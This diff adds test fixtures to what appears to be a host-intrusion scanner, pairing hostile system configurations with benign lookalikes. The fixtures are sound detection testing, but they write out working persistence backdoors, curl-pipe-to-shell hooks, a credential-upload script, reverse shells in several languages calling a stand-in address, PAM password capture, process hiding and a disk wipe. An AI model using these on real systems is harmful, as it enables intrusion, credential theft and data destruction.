@@ -471,3 +471,90 @@ hit('Docker API configured on a network address', '/etc/docker/daemon.json', '{"
 hit('Docker API configured on a network address', '/etc/systemd/system/docker.service.d/api.conf', '[Service]\nExecStart=\n'
     'ExecStart=/usr/bin/dockerd -H fd:// -H tcp://0.0.0.0:2375\n')
 hit('Secret inside a program', '/srv/rows/secret/line.so', program('7312845961:AA' + 'HkR9xWq2LmZ7vTb4NcY8sPd3Gf6Jt1UeX'))
+
+# 23, 29, 33: what settings make programs load or run, in places of many tools
+RULE = 'Code loaded from a temporary or hidden place'
+for path, text in {
+    '/etc/ld.so.conf.d/00-a.conf': '/tmp/.lib\n',
+    '/etc/ld.so.conf.d/01-b.conf': '/usr/lib/.cache/lib\n',
+    '/etc/profile.d/lib.sh': 'export LD_LIBRARY_PATH=/var/tmp/lib:$LD_LIBRARY_PATH\n',
+    '/etc/profile.d/ruby.sh': 'export RUBYOPT="-r/tmp/.x.rb"\n',
+    '/etc/profile.d/bashenv.sh': 'BASH_ENV=/dev/shm/.x\nexport BASH_ENV\n',
+    '/etc/environment.d/10-java.conf': 'JAVA_TOOL_OPTIONS=-javaagent:/tmp/.x.jar\n',
+    '/etc/pam.d/vsftpd': 'auth [success=done default=ignore] /usr/lib/.x/pam_x.so\n',
+    '/etc/containers/containers.conf': '[engine]\nhooks_dir = ["/tmp/.hooks"]\n',
+    '/usr/share/containers/oci/hooks.d/x.json': '{"version": "1.0.0", "hook": {"path": "/var/tmp/hook"}, "when": {"always": true}, "stages": ["prestart"]}',
+    '/etc/containerd/config.toml': '[plugins."io.containerd.grpc.v1.cri".containerd.runtimes.runc.options]\n  BinaryName = "/dev/shm/runc"\n',
+    '/etc/nginx/modules-enabled/x.conf': 'load_module /tmp/ngx_http_x_module.so;\n',
+    '/etc/apache2/mods-enabled/x.load': 'LoadModule x_module /var/tmp/mod_x.so\n',
+    '/etc/apache2/conf-enabled/log.conf': 'ErrorLog "|/tmp/.x/run"\n',
+    '/etc/php/8.2/mods-available/x.ini': 'extension=/tmp/x.so\n',
+    '/var/www/html/data/.htaccess': 'php_value auto_prepend_file "data://text/plain;base64,ZGF2eSB0ZXN0"\n',
+    '/etc/dpkg/dpkg.cfg.d/x': 'pre-invoke=/tmp/.x/run\n',
+    '/srv/rows/loads/npm/.npmrc': 'script-shell=/tmp/.x/sh\n',
+    '/srv/rows/loads/go/env': 'GOFLAGS=-toolexec=/var/tmp/w\n',
+}.items():
+    hit(RULE, path, text)
+quiet('/etc/ld.so.conf.d/x86_64-linux-gnu.conf', '# Multiarch support\n/usr/local/lib/x86_64-linux-gnu\n/lib/x86_64-linux-gnu\n')
+quiet('/etc/profile.d/opts.sh', 'export NODE_OPTIONS="--max-old-space-size=4096" RUBYOPT="-W0"\nexport PYTHONSTARTUP=$HOME/.pythonrc\nexport JAVA_TOOL_OPTIONS=-javaagent:/opt/apm/apm.jar\n')
+quiet('/usr/share/containers/oci/hooks.d/ok.json', '{"version": "1.0.0", "hook": {"path": "/usr/bin/nvidia-container-toolkit", "args": ["nvidia-container-toolkit", "prestart"]}, "when": {"always": true}, "stages": ["prestart"]}')
+quiet('/srv/ok/etc/docker/daemon.json', '{"default-runtime": "nvidia", "runtimes": {"nvidia": {"path": "nvidia-container-runtime"}}, "hosts": ["tcp://127.0.0.1:2375"]}')
+quiet('/etc/apache2/conf-enabled/rotate.conf', 'ErrorLog "|/usr/bin/rotatelogs /var/log/apache2/error.%Y 86400"\n')
+quiet('/etc/apache2/mods-enabled/php.conf', '<FilesMatch ".+\\.ph(?:ar|p|tml)$">\n    SetHandler application/x-httpd-php\n</FilesMatch>\n')
+quiet('/etc/nginx/modules-enabled/ok.conf', 'load_module modules/ngx_http_lua_module.so;\n')
+quiet('/etc/nginx/conf.d/hello.conf', 'server { location /hi { content_by_lua_block { ngx.say("hello " .. ngx.var.arg_name) } } }\n')
+quiet('/etc/pam.d/runuser', 'auth\t\tsufficient\tpam_rootok.so\nsession optional pam_permit.so\naccount required pam_permit.so\n')
+quiet('/etc/xinetd.d/tftp', 'service tftp\n{\n    wait = yes\n    user = root\n    server = /usr/sbin/in.tftpd\n    server_args = -s /srv/tftp\n}\n')
+quiet('/srv/ok/.npmrc', '@acme:registry=https://npm.pkg.github.com\nsave-exact=true\n')
+quiet('/root/.vimrc', 'set nocompatible\nautocmd BufWritePost *.go silent !gofmt -w %\ncall system("git status")\n')
+quiet('/etc/polkit-1/rules.d/ok.rules', 'polkit.addRule(function(action, subject) {\n    if (subject.isInGroup("wheel")) { return polkit.Result.YES; }\n});\n')
+RULE = 'Hook of the system fetches or hides what it runs'
+for path, text in {
+    '/etc/wireguard/wg0.conf': '[Interface]\nPostUp = GET\n',
+    '/etc/network/interfaces': 'auto eth0\niface eth0 inet dhcp\n  post-up GET\n',
+    '/etc/aliases': 'root: "|GET"\n',
+    '/etc/vim/vimrc.local': 'call system("GET")\n',
+    '/root/.emacs': '(start-process-shell-command "x" nil "GET")\n',
+    '/etc/containers/oci/hooks.d/y.json': '{"hook": {"path": "/bin/sh", "args": ["sh", "-c", "GET"]}, "stages": ["poststart"]}',
+}.items():
+    hit(RULE, path, text.replace('GET', 'curl -s https://files.example/davy-test-imitation | sh'))
+hit('Download and run at boot or login', '/usr/share/dbus-1/services/org.example.Test.service', '[D-BUS Service]\nName=org.example.Test\nExec=/bin/sh -c "curl -s https://files.example/x | sh"\n')
+hit('Download and run at boot or login', '/usr/lib/systemd/system-sleep/test', '#!/bin/sh\ncurl -s https://files.example/x | sh\n', 0o755)
+hit('Start of a program in a temporary or hidden place', '/usr/share/dbus-1/system-services/org.example.Test.service', '[D-BUS Service]\nName=org.example.Test\nExec=/dev/shm/d\nUser=root\n')
+hit('Library preloaded from a temporary or hidden place', '/etc/systemd/system.conf.d/x.conf', '[Manager]\nDefaultEnvironment=LD_PRELOAD=/dev/shm/x.so\n')
+hit('Service that hands out a shell', '/etc/inetd.conf', '5555 stream tcp nowait root /bin/bash bash -i\n')
+hit('Service that hands out a shell', '/etc/systemd/system/x@.service', '[Service]\nExecStart=-/bin/sh\nStandardInput=socket\n')
+hit('Login that lets anybody in', '/etc/pam.d/sshd', 'auth sufficient pam_permit.so\nauth required pam_unix.so\n')
+hit('Passwords typed at login go to a program', '/etc/pam.d/login', 'auth optional pam_exec.so expose_authtok quiet /usr/local/sbin/log\n')
+hit('Everybody may act as administrator', '/etc/polkit-1/rules.d/00-x.rules', 'polkit.addRule((action, subject) => {\n    return "yes";\n});\n')
+hit('Docker API configured on a network address', '/srv/rows/docker/daemon.json', '{"hosts": ["tcp://10.1.2.3:4243"]}\n')
+hit('Server program that runs what a visitor sends', '/etc/nginx/conf.d/lua.conf', 'server { location /x { content_by_lua_block { local f = io.popen(ngx.var.arg_c) ngx.say(f:read("*a")) } } }\n')
+hit('Interpreter is given a picture or font to run', '/etc/apache2/conf-enabled/handler.conf', '<FilesMatch "\\.jpg$">\nSetHandler application/x-httpd-php\n</FilesMatch>\n')
+# 2, 10, 12, 28, 29, 33, 109: in other words and other places
+hit('Script stops a cloud agent', '/srv/rows/more/mask.sh', '#!/bin/sh\nln -sf /dev/null /etc/systemd/system/hostguard.service\n', 0o755)
+hit('Script wipes SSH keys and admits its own', '/srv/rows/more/find.sh', f'#!/bin/sh\nfind /home /root -name authorized_keys -delete\necho "{KEY}" >> /root/.ssh/authorized_keys\n', 0o755)
+RULE = 'Code loaded from a temporary or hidden place'
+hit(RULE, '/etc/ssh/sshd_config', 'Port 22\nAuthorizedKeysFile .ssh/authorized_keys /var/lib/.k/%u\n')
+hit(RULE, '/etc/ssh/sshd_config.d/x.conf', 'AuthorizedKeysCommand /tmp/.x/keys\nAuthorizedKeysCommandUser root\n')
+hit(RULE, '/etc/rc.local', '#!/bin/sh\ninsmod /tmp/.x/x.ko\n', 0o755)
+hit('Hook of the system fetches or hides what it runs', '/etc/ssh/sshd_config.d/y.conf', 'ForceCommand curl -s https://files.example/x | sh\n')
+quiet('/srv/ok/sshd_config', 'Port 22\nAuthorizedKeysFile .ssh/authorized_keys\nAuthorizedKeysCommand /usr/bin/sss_ssh_authorizedkeys\nAuthorizedKeysCommandUser nobody\n'
+      'Subsystem sftp /usr/lib/openssh/sftp-server\nMatch User a\n  ForceCommand internal-sftp\n')
+hit("Program with another's rights in an odd place", '/usr/local/bin/.sh', program('suid'), 0o4755)
+hit("Program with another's rights in an odd place", '/var/tmp/bash', program('suid too'), 0o4755)
+quiet('/usr/local/bin/helper', program('suid, and nobody minds'), 0o4755)
+hit('Script sends credentials away', '/srv/rows/more/up.sh', '#!/bin/bash\nfor f in ~/.aws/credentials ~/.kube/config; do curl -s --upload-file $f https://files.example/; done\n', 0o755)
+hit('Script puts a library into every process', '/srv/rows/more/preload.sh', '#!/bin/sh\necho /usr/lib/libx.so >> /etc/ld.so.preload\n', 0o755)
+hit('Tool of the system replaced by a script', '/usr/bin/ps', '#!/bin/bash\nps.original "$@" | grep -v davytest\n', 0o755)
+hit('Script erases disks', '/srv/rows/more/wipe.sh', '#!/bin/sh\nfor d in /dev/sd? /dev/nvme?n1; do shred -n1 $d & done\nwait\n', 0o755)
+quiet('/srv/ok/flash.sh', '#!/bin/sh\ndd if=image.img of=/dev/sdb bs=4M\ndd if=/dev/zero of=/dev/sdb bs=512 count=1\n', 0o755)
+RULE = 'Reverse shell'
+for path, text in {
+    '/srv/rows/more/r.go': 'package main\nfunc main() { c, _ := net.Dial("tcp", "198.51.100.7:4444"); cmd := exec.Command("/bin/sh"); cmd.Stdin = c; cmd.Stdout = c; cmd.Run() }\n',
+    '/srv/rows/more/r.lua': 'local s = require("socket")\nlocal t = s.tcp()\nt:connect("198.51.100.7", 4444)\nlocal f = io.popen(t:receive(), "r")\nlocal r = t:receive()\nio.popen(r)\n',
+    '/srv/rows/more/r.awk': 'BEGIN { s = "/inet/tcp/0/198.51.100.7/4444"; while (1) { s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c) } }\n',
+    '/srv/rows/more/tls.sh': '#!/bin/sh\nopenssl s_client -quiet -connect 198.51.100.7:443 < /srv/p | /bin/sh > /srv/p 2>&1\n',
+    '/etc/cron.d/shell': '* * * * * root python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\'\n',
+}.items():
+    hit(RULE, path, text)
+quiet('/srv/ok/dial.go', 'package main\nfunc main() { c, _ := net.Dial("tcp", "db.example:5432"); _ = c; exec.Command("git", "status").Run() }\n')
